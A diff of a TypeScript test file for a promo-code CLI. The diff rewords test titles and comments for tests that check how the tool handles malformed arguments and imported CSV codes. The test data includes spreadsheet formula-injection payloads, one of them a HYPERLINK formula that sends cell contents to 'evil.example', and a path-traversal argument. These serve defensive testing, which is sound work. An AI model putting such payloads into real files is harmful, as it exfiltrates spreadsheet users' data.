@@ -21,7 +21,7 @@ const commands: readonly (readonly string[])[] = [
   ['journal', 'list'],
 ];
 
-/** Each as one argument: no shell stands between. */
+/** Each is one argument, without a shell in between. */
 const words = fc.oneof(
   fc.constantFrom('--company', '--state', '--format', '--limit', '--count', '--pattern', '--json'),
   fc.constantFrom('--starts', '--timezone', '--phone', '--config', '--', '-1', '1e400', '../../x'),
@@ -35,7 +35,7 @@ async function newCompany(env: Environment): Promise<string> {
 }
 
 describe('promo-lead, met by bad input', () => {
-  it('says in a sentence what is wrong with any command line, and exits with 1 or 2', async () => {
+  it('says in one sentence what is wrong with any command line, and exits with 1 or 2', async () => {
     const property = fc.asyncProperty(
       fc.constantFrom(...commands),
       fc.array(words, { maxLength: 5 }),
@@ -50,7 +50,7 @@ describe('promo-lead, met by bad input', () => {
     await fc.assert(property, { numRuns: 60 });
   });
 
-  it('gives back from CSV what came in by CSV, and no cell that is a formula', async () => {
+  it('lists what was imported as CSV unchanged, formulas included', async () => {
     const file = join(temporaryFolder(), 'codes.csv');
     const codes = ['=HYPERLINK("http://evil.example?"&A1)', '+1+1', '-1+1', '@SUM(A1)', '＝1+1'];
     const more = ['a,b', 'a;b', 'say "x"', "O'Connor", '%00', '2026-02-30', '1e309'];
@@ -62,12 +62,12 @@ describe('promo-lead, met by bad input', () => {
     assert.deepEqual([imported.code, imported.stderr], [0, '']);
     const { stdout } = await promoLead(['codes', 'list', '--json'], env);
     const listed = (JSON.parse(stdout) as { readonly code: string }[]).map(({ code }) => code);
-    // NFKC makes a plain sign of the full-width one.
+    // NFKC turns the full-width sign into the plain one.
     const kept = [...codes, ...more].map((code) => code.normalize('NFKC'));
     assert.deepEqual(listed.toSorted(), [...new Set(kept)].toSorted());
   });
 
-  it('refuses a file of codes that is wrong anywhere, by line, and imports none of it', async () => {
+  it('refuses a file of codes with any wrong line, names the line, and imports nothing', async () => {
     const file = join(temporaryFolder(), 'codes.csv');
     const env = { PROMO_LEAD_DATA: join(temporaryFolder(), 'data') };
     const company = await newCompany(env);
